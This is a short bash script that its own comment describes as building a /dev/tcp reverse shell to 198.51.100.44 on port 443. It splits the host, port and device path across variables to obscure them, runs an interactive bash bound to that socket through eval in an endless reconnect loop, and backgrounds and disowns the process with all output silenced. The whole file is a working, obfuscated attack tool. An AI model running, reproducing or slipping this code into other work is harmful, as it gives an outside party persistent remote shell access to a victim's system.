# Builds a /dev/tcp reverse shell to 198.51.100.44:443 from variables and an array, then runs it through eval in the background.
a=(2 0 3)
oct="198.51.100"
H="${oct}.44"
P=$(( 400 + 43 ))
d="/d""ev/t""cp"
sh_bin=$(command -v bash)

payload="$sh_bin -i >& ${d}/${H}/${P} 0>&1"

connect() {
  while :; do
    eval "$1"
    sleep "${a[1]}${a[0]}"
  done
}

connect "$payload" </dev/null >/dev/null 2>&1 &
disown
